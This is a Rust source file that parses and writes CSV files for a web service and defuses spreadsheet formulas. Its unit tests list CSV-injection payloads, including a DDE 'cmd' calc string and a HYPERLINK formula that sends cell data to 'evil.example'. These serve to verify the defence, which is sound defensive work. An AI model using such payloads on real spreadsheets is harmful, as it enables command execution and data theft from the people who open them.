//! CSV files as RFC 4180 defines them: UTF-8, with a header. Formulas are defused ([`guarded`]).

use std::future::Future;

use actix_web::HttpResponse;
use actix_web::http::header::CONTENT_DISPOSITION;
use actix_web::web::Bytes;
use csv::{ReaderBuilder, StringRecord, Terminator, WriterBuilder};
use domain::platform::cells::{guarded, unguarded};
use domain::{Day, Timestamp};
use futures_util::TryStreamExt;

use crate::problem::{FieldError, Problem};
use crate::wire::batches::{Batch, batches};

/// The most rows that a file may have.
pub(crate) const ROWS_MAX: usize = 5_000;

/// Follows a file's last line. An unclosed quotation mark swallows it.
const END: &str = "\u{1}end";

/// A column that is read from a file.
pub(crate) struct Column {
    /// Its name; a file may write it in any case.
    pub(crate) name: &'static str,
    /// Whether a file without it is refused.
    pub(crate) required: bool,
}

/// One row of a file.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Row {
    /// The line of the file on which it begins; the header's is 1.
    pub(crate) line: u64,
    /// Its cells, in the order of the requested columns; `None` for an empty one.
    pub(crate) cells: Vec<Option<String>>,
    /// Whether it has more cells than the header has.
    pub(crate) overflows: bool,
}

/// A parsed file.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Table {
    /// Its rows, without blank ones.
    pub(crate) rows: Vec<Row>,
    /// Whether semicolons separate its cells, as in locales with a decimal comma.
    pub(crate) semicolons: bool,
}

/// Reads a file.
///
/// # Errors
/// 400 if it is not UTF-8, 413 if it has more than 5,000 rows, 422 if it lacks a column or has one twice, or if a quotation
/// mark is never closed.
pub(crate) fn read(body: &[u8], columns: &[Column]) -> Result<Table, Problem> {
    let text = std::str::from_utf8(body).map_err(|_| Problem::bad_request("This file is not UTF-8 text"))?;
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let semicolons = has_semicolons(text);
    let text = format!("{text}\n{END}");
    let mut reader = ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(if semicolons { b';' } else { b',' })
        .from_reader(text.as_bytes());
    let mut lines = Lines { text: text.as_bytes(), at: 0, line: 1 };
    let mut next = || -> Result<Option<(u64, StringRecord)>, Problem> {
        let mut record = StringRecord::new();
        let read = reader.read_record(&mut record).map_err(|_| Problem::bad_request("This file is not CSV"))?;
        let begins = record.position().and_then(|position| usize::try_from(position.byte()).ok());
        let line = lines.of(begins.unwrap_or_default());
        if !read || record.get(0) == Some(END) {
            return Ok(None);
        }
        if record.iter().any(|cell| cell.ends_with(END)) {
            let message = format!("A quotation mark in the row on line {line} is never closed");
            return Err(Problem::invalid_field("file", message));
        }
        Ok(Some((line, record)))
    };
    let header = next()?.map(|(_, header)| header).unwrap_or_default();
    let places = places(&header, columns)?;
    let mut rows = Vec::new();
    while let Some((line, record)) = next()? {
        if record.iter().all(|cell| cell.trim().is_empty()) {
            continue;
        }
        if rows.len() == ROWS_MAX {
            return Err(Problem::too_many_rows(ROWS_MAX));
        }
        let cell =
            |place: Option<usize>| record.get(place?).map(unguarded).filter(|cell: &String| !cell.trim().is_empty());
        rows.push(Row {
            line,
            cells: places.iter().map(|place| cell(*place)).collect(),
            overflows: record.iter().skip(header.len()).any(|cell| !cell.trim().is_empty()),
        });
    }
    Ok(Table { rows, semicolons })
}

/// Whether semicolons separate the header.
fn has_semicolons(text: &str) -> bool {
    let header = text.trim_start_matches(['\r', '\n']).split(['\r', '\n']).next().unwrap_or_default();
    header.matches(';').count() > header.matches(',').count()
}

/// The index of each column in the file.
fn places(header: &StringRecord, columns: &[Column]) -> Result<Vec<Option<usize>>, Problem> {
    let mut errors = Vec::new();
    let mut refuse = |field: &str, message: String| errors.push(FieldError { field: field.to_owned(), message });
    let mut places = Vec::new();
    for Column { name, required } in columns {
        let mut found = (0..header.len())
            .filter(|place| header.get(*place).is_some_and(|cell| unguarded(cell).trim().eq_ignore_ascii_case(name)));
        let place = found.next();
        if found.next().is_some() {
            refuse(name, format!("The column {name} appears twice"));
        } else if place.is_none() && *required {
            refuse(name, format!("The column {name} is missing"));
        }
        places.push(place);
    }
    if errors.is_empty() { Ok(places) } else { Err(Problem::invalid(errors)) }
}

/// Counts lines. The csv crate counts them too, but for a record after empty lines it reports the first of those.
struct Lines<'a> {
    text: &'a [u8],
    at: usize,
    line: u64,
}

impl Lines<'_> {
    /// The line of the record that is read from a byte on; every call has to pass a later byte.
    fn of(&mut self, byte: usize) -> u64 {
        let is_break = |byte: &u8| matches!(byte, b'\r' | b'\n');
        let begins = byte + self.text.iter().skip(byte).take_while(|byte| is_break(byte)).count();
        while self.at < begins {
            let ends_line = match self.text.get(self.at) {
                Some(b'\n') => true,
                Some(b'\r') => self.text.get(self.at + 1) != Some(&b'\n'),
                _ => false,
            };
            self.line += u64::from(ends_line);
            self.at += 1;
        }
        self.line
    }
}

/// Sends a file that is read page by page, so that a long one takes no more memory than a short one. `read` returns the
/// rows after a cursor, and the next cursor. If it fails after the first page, the response breaks off.
pub(crate) async fn send<Cursor, Reading>(
    called: &str,
    now: Timestamp,
    columns: impl IntoIterator<Item: ToString>,
    mut read: impl FnMut(Option<Cursor>) -> Reading + 'static,
) -> Result<HttpResponse, Problem>
where
    Cursor: 'static,
    Reading: Future<Output = Result<Batch<Vec<String>, Cursor>, Problem>> + 'static,
{
    let (mut rows, next) = read(None).await?;
    rows.insert(0, columns.into_iter().map(|name| name.to_string()).collect());
    let pieces = batches((rows, next), move |cursor| read(Some(cursor))).map_ok(|batch| written(batch.items));
    let named = format!("attachment; filename=\"{called}-{}.csv\"", Day::of(now));
    Ok(HttpResponse::Ok()
        .content_type("text/csv; charset=utf-8")
        .insert_header((CONTENT_DISPOSITION, named))
        .streaming(pieces))
}

pub(crate) fn written(rows: impl IntoIterator<Item = Vec<String>>) -> Bytes {
    let mut writer = WriterBuilder::new().terminator(Terminator::CRLF).flexible(true).from_writer(Vec::new());
    for row in rows {
        // Writing to memory does not fail.
        let _ = writer.write_record(row.iter().map(|cell| guarded(cell)));
    }
    writer.into_inner().unwrap_or_default().into()
}

#[cfg(test)]
mod tests {
    use actix_web::ResponseError;

    use domain::platform::cells::SIGNS;

    use super::*;

    const COLUMNS: [Column; 2] =
        [Column { name: "name", required: true }, Column { name: "partNumber", required: false }];

    fn table(file: &str) -> Vec<(u64, String, String)> {
        let text = |cell: &Option<String>| cell.clone().unwrap_or_default();
        let rows = read(file.as_bytes(), &COLUMNS).unwrap().rows;
        rows.iter().map(|row| (row.line, text(&row.cells[0]), text(&row.cells[1]))).collect()
    }

    fn refusal(file: &[u8]) -> (u16, String) {
        let problem = read(file, &COLUMNS).unwrap_err();
        (problem.status_code().as_u16(), problem.to_string())
    }

    #[test]
    fn columns_may_come_in_any_order_and_case_and_unknown_ones_are_ignored() {
        for file in [
            "name,partNumber\na,1\n",
            "\u{feff}PARTNUMBER , colour,Name\r\n1,red,a\r\n",
            "partnumber;Name\r1;a",
            "\n\nname,partNumber\n\na,1",
        ] {
            let rows = table(file);
            assert_eq!(rows.len(), 1, "{file:?}");
            assert_eq!((rows[0].1.as_str(), rows[0].2.as_str()), ("a", "1"), "{file:?}");
        }
    }

    #[test]
    fn a_row_is_identified_by_the_line_on_which_it_begins() {
        for end in ["\n", "\r\n", "\r"] {
            let file = "name\n\"a\nb\"\nc\n\n \n,,\nd".replace('\n', end);
            let rows: Vec<_> = table(&file).into_iter().map(|(line, name, _)| (line, name)).collect();
            let expected = [(2, format!("a{end}b")), (4, "c".to_owned()), (8, "d".to_owned())];
            assert_eq!(rows, expected, "{end:?}");
        }
    }

    #[test]
    fn quotes_separators_and_line_breaks_stay_in_their_cells() {
        let rows = table("name,partNumber\n\"12\"\" rim, \"\"forged\"\"; new\r\n2nd line\",x");
        assert_eq!(rows, [(2, "12\" rim, \"forged\"; new\r\n2nd line".to_owned(), "x".to_owned())]);
    }

    #[test]
    fn a_missing_or_repeated_column_is_named() {
        for (file, expected) in [
            ("", "The column name is missing"),
            ("partNumber\n1", "The column name is missing"),
            ("{\"name\": 1}", "The column name is missing"),
            ("name,NAME\na,b", "The column name appears twice"),
        ] {
            let (status, message) = refusal(file.as_bytes());
            assert!(status == 422 && message.ends_with(expected), "{file:?}: {message}");
        }
    }

    #[test]
    fn an_unclosed_quotation_mark_is_refused_with_its_line() {
        let (status, message) = refusal(b"name\na\n\"b\nc\nd\n");
        assert_eq!(status, 422);
        assert!(message.contains("line 3"), "{message}");
        assert_eq!(table("name\n12\" rim\n\"b\"").len(), 2, "a quotation mark inside a cell is an ordinary character");
    }

    #[test]
    fn a_file_that_is_not_utf_8_is_400_and_one_that_is_too_long_is_413() {
        assert_eq!(refusal(b"name\n\xff\xfe").0, 400);
        let rows = |many: usize| format!("name\n{}", "a\n".repeat(many));
        assert_eq!(read(rows(ROWS_MAX).as_bytes(), &COLUMNS).unwrap().rows.len(), ROWS_MAX);
        assert_eq!(refusal(rows(ROWS_MAX + 1).as_bytes()).0, 413);
    }

    #[test]
    fn a_row_with_more_cells_than_the_header_is_marked() {
        let rows = read(b"name,partNumber\na,1,2\nb,1,,\nc", &COLUMNS).unwrap().rows;
        assert_eq!(rows.iter().map(|row| row.overflows).collect::<Vec<_>>(), [true, false, false]);
    }

    /// Texts that some spreadsheet takes for formulas, and some that only look like it.
    const HOSTILE: [&str; 31] = [
        "=1+1",
        "+49 30",
        "-3",
        "@x",
        "\ttab",
        "\rcr",
        "\nlf",
        "'=1",
        "''@x",
        "'\tx",
        "'quoted'",
        "a,b",
        "a\"b",
        "a\r\nb",
        "x",
        "Bob;=cmd|' /C calc'!A0",
        "Street 1\n=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
        "a\r\n+1",
        "a\t=1",
        "a;'=1;''=1",
        "a; \"=1\"",
        ";=1",
        "\t=1",
        "\"=1",
        "\";\"\"=1",
        "＝1+1",
        "a;＋1\t－1\n＠x",
        " =1",
        "a;",
        "a; b; c - d = e",
        "'",
    ];

    /// The cells seen by a reader that splits at one character, honours quotation marks at the beginning of a cell, and
    /// takes the rest literally.
    fn seen(file: &[u8], delimiter: u8) -> Vec<String> {
        let mut reader = ReaderBuilder::new().has_headers(false).flexible(true).delimiter(delimiter).from_reader(file);
        let mut cells = Vec::new();
        let mut record = StringRecord::new();
        while reader.read_record(&mut record).unwrap() {
            cells.extend(record.iter().map(str::to_owned));
        }
        cells
    }

    #[test]
    fn no_cell_is_a_formula_whatever_the_separator() {
        for text in HOSTILE {
            let row = ["0199f3a0", text, "x", text].map(str::to_owned).to_vec();
            let file = written([vec!["id".to_owned(), "name".to_owned()], row]);
            let lines = file.split(|byte| matches!(byte, b'\r' | b'\n'));
            let plain = lines.flat_map(|line| line.split(|byte| matches!(byte, b';' | b'\t')));
            let plain = plain.map(|cell| String::from_utf8_lossy(cell).into_owned());
            let read = [b',', b';', b'\t'].into_iter().flat_map(|delimiter| seen(&file, delimiter));
            for cell in read.chain(plain) {
                let begins = cell.trim_start_matches([' ', '"']);
                assert!(!begins.starts_with(SIGNS), "{text:?} is the formula {cell:?}");
                assert!(!cell.starts_with(['\t', '\r']), "{text:?}: {cell:?}");
            }
        }
    }

    #[test]
    fn every_text_round_trips() {
        for text in HOSTILE {
            assert_eq!(unguarded(&guarded(text)), text);
            let file = written([vec!["name".to_owned()], vec![text.to_owned()]]);
            assert_eq!(read(&file, &COLUMNS).unwrap().rows[0].cells[0].as_deref(), Some(text));
        }
    }
}
